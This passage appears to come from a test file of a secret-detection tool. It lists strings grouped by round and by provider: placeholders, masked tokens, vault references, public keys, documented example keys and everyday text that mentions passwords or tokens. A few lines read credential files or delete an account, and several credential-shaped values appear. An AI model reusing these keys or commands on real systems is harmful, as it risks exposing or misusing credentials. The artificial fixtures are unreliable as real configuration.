        "qH/y4D8ZfQ4Rcz+HhJcppz5METn7QDlI4whDHwsyMGA=",
        "$ bundle config set --local path vendor/bundle",
        "Seed phrase: write the 24 words on the steel plate, never type them anywhere",
        "pw reset link sent to jess@example.com, expires in 30 minutes",
        "keybox on the left of the door; the host texts the code on arrival",
        "var nonce, _ = hex.DecodeString(\"000102030405060708090a0b\")",
    ),
    "round-9": (
        "Syncthing device ID: MFZWI3D-BONSGYC-YLTMRWG-C43ENR5-QXGZDMM-FZWI3DP-BONSGYY-LTMRWAD",
        "Recovery key ID: F141593D-BCCE-4ECA-80DC-54EE7F6B487C",
        "event 01HF8Z3K5V2Q9X7W4Y6T1R0M3N stored",
        "base32 alphabet: ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
        "YubiKey 5C (serial 21045873), firmware 5.4.3",
        "zip code 94107; exit code 137; the code is 2000 lines long",
        "recovery codes: regenerate them in Settings → Password and authentication",
        'totp = pyotp.TOTP("JBSWY3DPEHPK3PXP")   # example secret from the pyotp README',
        "// Search-only API key: safe to expose in the frontend\n"
        "const searchClient = algoliasearch('MB32OJKXZM', '797b3ebd53c44d9d6a0a2e1539e31a7d');",
        'const firebaseConfig = {\n  apiKey: "AIzaVsXr1gFSlFrVIvr1y2yrUZy5tv6PCyaQUaf",\n'
        '  authDomain: "acme-chat.firebaseapp.com",\n};',
        "NEXT_PUBLIC_SUPABASE_ANON_KEY=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
        "eyJpc3MiOiJzdXBhYmFzZSIsInJvbGUiOiJhbm9uIn0.SIflKNGKLQvQkiANtO7GmuDzy0bQ1Vq4UFHziWF4LXQ",
        "[Service]\nLoadCredential=tls-key:/etc/ssl/private/app.key\n"
        "Environment=PASSWORD_FILE=%d/db-password\n"
        "Environment=INSTANCE_ID=f9e0c11f-194d-4764-801b-3b5c046ecebc",
        "$ systemd-creds encrypt --name=db-password - /etc/credstore/db-password\n"
        "Password: (typed, not echoed)",
        "ユーザーが入力したパスワード：●●●●●●●●（非表示）",
        '"encKeyValidation_DO_NOT_EDIT": "2.8ROPOw2Uzi5MQVPjmNfhgQ==|6InigfsilAmi00fmBYGBgvDA0bh+'
        'GsYEEkOf22ju9WgAcXw/ikzjHo/b26BwEwj4|6pvTLtpCVWsPe0bOy1kUj3p/PSO+N6fAz5HsYgxCNNU=",',
        '"DbPassword": "@Microsoft.KeyVault(SecretUri=https://kv-acme.vault.azure.net/secrets/'
        'DbPassword/)",',
        "kind: SealedSecret\nspec:\n  encryptedData:\n    password: AgBy8hCi"
        "gdOKm2gGT/ei+lTXN/1lHpyZbUckF6M1YsT4aWQDZIA73HLcRuOEOL2vfrUs29SWwR57aCJcvIEyFQd/lZVa\n",
        'licenseKey: "NRJS-804534c6666801fa86c", applicationID: "395974367"',
        "  - Token: gho_************************************\n"
        "  - Token scopes: 'gist', 'read:org', 'repo', 'workflow'",
        "sample (jwt.io): eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIi\n"
        "wibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6\n"
        "yJV_adQssw5c",
        "REM KMS client setup key (GVLK) for Windows Pro, published in Microsoft's docs:\n"
        "slmgr /ipk W269N-WFGWX-YVC9B-4J6C9-T83GX",
        "app_db_password: \"{{ lookup('community.hashi_vault.hashi_vault', "
        "'secret=kv/data/app/db:password') }}\"",
        "curl https://api.stripe.com/v1/charges -u sk_test_4eC39HqLyjWDarjtT1zdp7dc:",
        "# publishable key (client-side), split for line length\nSTRIPE_PUBLISHABLE_KEY = (\n"
        '    "pk_live_51QMAukBfOaQqSU79iIrGOQ5RLi03kzfZpUlFpYjvt"\n'
        '    "rVvUE1wXp8qlwVXAZlNgJp0Y1DEkXRf102JoJlCUhlSfrhGY2sQJF1qjg"\n)',
        "Ticket #58213 – order 2024-0318, invoice 20240318",
    ),
    "round-7": (
        "otpauth://totp/Example:alice@google.com?secret=JBSWY3DPEHPK3PXP&issuer=Example",
        "totp = pyotp.TOTP(\"base32secret3232\")  # the library's docs example",
        "totp = pyotp.TOTP(os.environ[\"OTP_SEED\"])",
        "oathtool --totp -b \"$OTP_SEED\"",
        "WIFI:T:WPA;S:Guest;P:<password>;H:false;;",
        "    Key Content            : Absent",
        "Token accessor:\n8609694a-cdbc-db9b-d345-e782dbb562ed",
        "Public key (share this one):\nqH/y4D8ZfQ4Rcz+HhJcppz5METn7QDlI4whDHwsyMGA=",
        "session=<your-session-cookie>",
        "net use Z: \\\\fs01\\backups /user:CORP\\svc * /persistent:no",
        "INFO sms.sent sid=SMd0167754830a5056c4822c133d740e67 status=queued",
        "var jwtSecret = []byte(os.Getenv(\"JWT_SECRET\"))",
        "Commit hash:\n9fceb02d0ae598e95dc970b74767f19372d61af8",
    ),
    "round-8": (
        "name,url,username,password,note\nrouter,http://192.168.0.1/,admin,,no password set\n",
        "BitLocker recovery screen:\nRecovery key ID: D96312BA\n",
        "$ cat .htpasswd\nadmin:$2y$05$mCy0YCFYVjFzjupeLWymSZxbX/YTa1voZtqlv2KKpVmK.zP9RMYCS",
        "GPIO pin 17 drives the relay; pin 2048 does not exist on this board",
        "The default SIM PIN is 1234 until you change it.",
        "username netops privilege 15 secret 9 $9$nhEmQVczB7dqsO$X.HsgL6x1il0RxkOSSvyQYwucySCTeE",
        "    \"totp\": null,",
        "<password-policy>strict</password-policy>",
    ),
    "round-6": (
        "  password: !secret influx_password",
        "https://api.mapbox.com/styles/v1/{id}/tiles/{z}/{x}/{y}?access_token={accessToken}",
        "    client_secret: '##BILLING_PORTAL_CLIENT_SECRET##'",
        "JWT_SECRET=replace-with-32-random-bytes",
        "amqp://USER:PASSWORD@HOST:5672/VHOST",
        "https://<username>:<password>@registry.example.com/v2/",
        "  - Token: gho_************************************\n"
        "  - Token scopes: 'admin:public_key', 'gist'",
        '  "NodeKey": "nodekey:e2d36d6b77f3fdede237e95282092c17fd13b4c197cac36208aa2a1f5c2a7ac1"',
        'PASSWORD_HASHERS = ["django.contrib.auth.hashers.Argon2PasswordHasher"]',
        "applicationServerKey: urlBase64ToUint8Array(\"Bs0FYy8mt-ifaIyxV0llqr_2DJkq\")",
        "TEST_MNEMONIC = \"abandon abandon abandon abandon abandon abandon abandon abandon "
        "abandon abandon abandon about\"",
        "snmp-server community public RO",
        "the Wi-Fi password is on the fridge",
    ),
    "round-5": (
        "CI_JOB_TOKEN=[MASKED]",
        '    "VersionId": "Xq3BfLN_qTSVAaDf4dHC98GDtMm1MDBD",',
        "  ~ password = (sensitive value)",
        '{"token": "tok_chargeDeclined", "card": "4000 0000 0000 0002"}',
        "Square.payments('sq0idp-x2Xnh4dsk9u6Wcde6pcMhO', 'LM6JR3XH7F8YG');",
        'DATABASE_PASSWORD="op://Production/Postgres/password"',
        "db_password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256\n  6531",
        "-----BEGIN OPENSSH PRIVATE KEY-----\n<your key material here>\n"
        "-----END OPENSSH PRIVATE KEY-----",
        "  private key: (hidden)\n  listening port: 51820",
        "$ mysql -u root -p\nEnter password:\nWelcome to the MySQL monitor.",
        "パスワードは1Passwordの「本番」を見てください。",
        "DB_PASSWORD=changeme",
        'export const PUBLIC_VAPID_KEY =\n  "Bs2g3VEmdORHRx0CSIk6mvcgpH5yfES0FqVcznxFhaG1sixAk";',
        '{"kid":"-g-xE-VuKyuy1I3QvAfQfS","x5t":"7bFxbvdvjs64xsjTnuy7t1iEkLz"}',
        "Cookie: _ga=GA1.1.9666465280.1741776722; _gid=GA1.2.1234567890.1741776722",
        'Set-Cookie: sessionid=""; expires=Thu, 01 Jan 1970 00:00:00 GMT; Max-Age=0',
        '  clientId: "9t0w5MfuwqEEGyUG0tZr35mMfELoCzUP",',
        "Authorization: Basic dXNlcm5hbWU6cGFzc3dvcmQ=",
        "echo 'eyJ2ZXJzaW9uIjoxLCJmZWF0dXJlcyI6WyJiZXRhLXNlYXJjaCJdfQ==' | base64 -d",
        'dsn: "https://cc72e29e4def297dbece92a70b1cbeab@o524.ingest.sentry.io/45"',
        "posthog.init('phc_nabYBvz1WXpit55s7G3gxR1R6GrTrmEJDYCCa6H5fbO', {",
        "  clientToken: 'pubffa2e758d74ca65aadb4c3373ce00073',",
        '{"sid": "SMee957e23662090bb7d97b20e561bad72", "status": "sent"}',
        "my password manager for the team is great",
        "npm token create --read-only --cidr=10.0.0.0/8",
        " etl_loader | Password valid until 2025-12-31 00:00:00+00",
        'DB_PASSWORD="op://Production/Postgres primary/password"',
        "Token deployed to: 0x0c61fdd26f3f71789128d7c0ff81942751c5e9da",
        "Cookie: _ga=GA1.1.96664652.17417767; theme=dark; cookie_consent=necessary,analytics",
    ),
    "round-4": (
        "xpub6CUGRUonZSQ4TWtTMmzXdrXDtypWKiKrhko4egpiMZbpiaQL2jkwSB1icqYh2cfDfVxdx4df189oLKnC5f",
        "send to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or 1BoatSLRy1b3GxVz5qfJb1nT8mQ2u",
        "Solana address 7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV",
        "snmpwalk -v2c -c public 10.0.0.1",
        "rabbitmqctl list_users",
        "net user backup /delete",
        "the seed phrase is written on paper in the safe",
        "Şifre politikası: en az 12 karakter",
        "कृपया अपना पासवर्ड बदलें",
        "Mật khẩu là bắt buộc",
        "key-value store",
        "see https://n8n.example.com/webhook/ for the docs",
        "curl -b cookies.txt https://example.com",
        "sqlplus / as sysdba",
        "mnemonic: a short rhyme to remember a fact",
        "cache_key: 5f3a9c2e7b1d4a6f8e0c2b4d6f8a0c2e",
        "Idempotency-Key: 0f1e2d3c4b5a69788a9b0c1d2e3f4a5b",
        "routing_key: orders.created.eu",
        "https://example.com/search?q=password+manager&page=2",
        ),
    "round-3": (
        'provider "google" {\n  credentials = file(var.credentials_file)\n}',
        "UseDevelopmentStorage: DefaultEndpointsProtocol=http;AccountName=devstoreaccount1;"
        "AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/"
        "KBHBeksoGMGw==;",
        "const stripe = Stripe('pk_test_" + "51HdKx" + "Q2w3E4r5T6y7U8i9O0pAsDfGhJkL');",
        "mapboxgl.accessToken = 'pk.eyJ1IjoibWUiLCJhIjoiY2t4In0.abcDEF123ghiJKL456mnoP';",
        "DB_PASSWORD: vault:secret/data/app/db#password",
        "SecretId: arn:aws:secretsmanager:eu-west-1:123456789012:secret:app/db-AbCdEf",
        'export NPM_TOKEN="$(op read "op://Dev/npm/token")"',
        "password: ENC[AES256_GCM,data:Zm9vYmFy,iv:aXY=,tag:dGFn,type:str]",
        "ALTER USER app WITH PASSWORD :'new_password';",
        "  password_secret: postgres-auth",
        "password = %(db_password)s",
        'String token = System.getenv("API_TOKEN");',
        'const SESSION_STORAGE_KEY = "session_token";',
        "> Authorization: [REDACTED]",
        "role_id=\"0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b\"",
        'model = "Qwen2.5-Coder-32B-Instruct"',
        'resolved: "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"',
        'self.assertEqual(parse("2024-01-23T10:15:00Z"), expected)',
        'doc = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"  # the sheet\'s id',
        'integrity: "sha512-Xk3LvAmT9pQ2rS8uV1wY4zB7cE0fH3jK6mN9pR2sU5vX8yA1dG4hJ7kM0nQ3tW6zC9f"',
        'ulid = "01HF8Z3K9QW7M2N4P6R8T0V2X4"',
        'commit "3f5a9c2e7b1d4a6f8e0c2b4d6f8a0c2e4b6d8f0a"',
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGb7Xk1mQ9vT3pR8sW2yZ5cF0hJ4nL6uA9dE1gK3iM7o"
        " me@laptop",
        'label = "getElementsByTagName"',
    ),
    "round-2": (
        'export VAULT_TOKEN="$(vault print token)"',
        "kubectl --token=\"$(cat /run/secrets/sa-token)\" get ns",
        'curl -u "$CI_USER:$CI_TOKEN" https://ci.example.com/api',
        "mysql -h db.internal -u app -p billing",
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "the token for staging is rotated monthly",
        "Unseal Key 1: (printed once by vault operator init)",
        "client = Client('default')",
        "see /hooks/ for the hook scripts",
    ),
    "ai-provider": (
        "sk-learn is not a package; scikit-learn is",
        "api_key = os.environ['OPENAI_API_KEY']",
        "OPENAI_API_KEY=<your key here>",
        "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "the model is gpt-4o-2024-08-06",
        "max_tokens = 4096",
        "tokens: 1500",
    ),
    "github": (
        "commit 3f5a9c2e7b1d4a6f8e0c2b4d6f8a0c2e4b6d8f0a",
        "GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}",
        "ghp_ tokens are classic personal access tokens",
        "see https://github.com/owner/repo/pull/123",
    ),
    "gitlab": (
        "CI_JOB_TOKEN: $CI_JOB_TOKEN",
        "glpat- is the prefix GitLab gives personal tokens",
    ),
    "source-host-runner-deploy": (
        "gitlab-runner register --registration-token $REGISTRATION_TOKEN",
        "the deploy token needs read_registry scope",
        "gitlab-runner 16.11.0 (abcdef12)",
        "deploy_token = ${{ secrets.DEPLOY }}",
    ),
    "slack": (
        "xoxb- tokens are bot tokens, xoxp- are user tokens",
        "post it in #general",
    ),
    "chat-platform": (
        "Telegram chat id 123456789: it is a group",
        "join us at discord.gg/abc123",
        "the bot token lives in the vault",
        "Meeting at 10:30, in room 4.",
    ),
    "payment": (
        "whsec_ is the prefix of Stripe webhook secrets",
        "order total: $42.00, tax 8%",
        "stripe listen --forward-to localhost:4242/webhook",
    ),
    "package-registry": (
        "npm install left-pad@1.3.0",
        "pip install requests==2.32.3",
        "registry=https://registry.npmjs.org/",
        "//registry.npmjs.org/:_authToken=${NPM_TOKEN}",
        "version 1.2.3-beta.4+build.5",
    ),
    "aws": (
        "AKIAIOSFODNN7EXAMPLE is the key id AWS's docs use",
        "aws configure set region eu-west-1",
        "arn:aws:iam::123456789012:role/deploy",
        "aws_secret_access_key = ${AWS_SECRET_ACCESS_KEY}",
    ),
    "azure": (
        "AccountKey is in the portal under Access keys",
        "GET /api/status?code=200",
        "the sig= parameter signs the URL",
    ),
    "gcp-cloud-oauth": (
        "ya29 is the prefix of Google access tokens",
        "client_secret_file = /etc/app/client_secret.json",
        "request id 3f2a9c1e-7b4d-4e6f-a8c0-2b4d6f8a0c2e",
        "gcloud auth print-access-token",
    ),
    "secret-manager": (
        "vault kv get secret/db",
        "op read op://vault/item/password",
        "doppler run -- npm start",
    ),
    "private-key": (
        "-----BEGIN PUBLIC KEY-----\n"
        "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n"
        "4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u\n"
        "-----END PUBLIC KEY-----",
        "-----BEGIN CERTIFICATE-----\n"
        "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n"
        "-----END CERTIFICATE-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host",
        "never paste a private key into a chat",
    ),
    "encryption-key": (
        "age recipient age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p",
        "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=",
        "ENCRYPTION_KEY is read from KMS at start",
        "private_key_path = ~/.ssh/id_ed25519",
        "ssh_key: /home/me/.ssh/id_rsa",
        "primary_key = 'id'",
    ),
    "connection-string": (
        "http://localhost:8080/path@v2",
        "postgres://app@db.internal/app",
        "postgres://app:${DB_PASSWORD}@db/app",
        "git@github.com:owner/repo.git",
        "mailto:me@example.com",
        "http://[::1]:8080/health",
    ),
    "header": (
        "Authorization: required from legal before the release",
        "Authorization header is missing",
        "Cookie: chocolate chip, oatmeal raisin",
        "a cookie policy",
        "Bearer tokens expire after an hour",
        "X-API-Key: <your key>",
        "Authorization: Bearer $TOKEN",
        "Authorization: Bearer ${API_TOKEN}",
    ),
    "cli": (
        "mysql -p to be asked for the password",
        "docker login -u me --password-stdin",
        "git log -p --stat",
        "pip install -U pkg",
        "htpasswd -c .htpasswd admin",
        "--password-file /run/secrets/db",
        "ls -la /tmp",
    ),
    "natural": (
        "the password policy requires 12 characters",
        "my password is too short",
        "the password is stored in the vault",
        "Das Passwort ist abgelaufen",
        "le mot de passe est incorrect",
        "reset your password at https://example.com/reset",
        "password: required",
        "bypass = true",
        "compass: north",
    ),
    "base64": (
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
        "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "username: YWRtaW4=",
        "echo aGVsbG8gd29ybGQ= | base64 -d",
        "config: eyJuYW1lIjogImFsZXBoIiwgInNpemUiOiAzfQ==",
        "integrity sha512-3q2+7wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
        "AAAAAAAAAAAAAAAAAAAAAA==",
    ),
    "split-line": (
        "the quick brown\nfox jumps over",
        "| sha256 | 3f5a9c2e7b1d4a6f8e0c2b4d6f8a0c2e |\n"
        "|        | 4b6d8f0a2c4e6a8c0e2a4c6e8a0c2e4a |",
        "e3b0c44298fc1c149afbf4c8996fb924\n27ae41e4649b934ca495991b7852b855",
        "configuration\nimplementation",
    ),
    "general": (
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "uuid 123e4567-e89b-12d3-a456-426614174000",
        "v2.14.0-rc.1",
        "secret_name = 'prod-db'",
        "the token bucket refills 10 per second",
        "read the api key from the vault, never from the repo",
    ),
}
